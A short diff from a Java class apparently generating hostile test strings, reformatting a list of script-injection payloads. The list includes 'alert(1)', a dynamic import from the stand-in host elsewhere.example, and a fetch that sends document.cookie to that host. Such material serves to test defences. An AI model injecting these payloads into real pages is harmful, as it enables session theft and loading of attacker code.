@@ -9,7 +9,10 @@ final class HostileTexts {
     static final int COUNT = 200;
 
     private static final List<String> ACTS = List.of(
-            "canary=1", "alert(1)", "import('//elsewhere.example/x.js')", "fetch('//elsewhere.example/'+document.cookie)");
+            "canary=1",
+            "alert(1)",
+            "import('//elsewhere.example/x.js')",
+            "fetch('//elsewhere.example/'+document.cookie)");
 
     /** Where the act stands there is an @. */
     private static final List<String> WAYS = List.of(
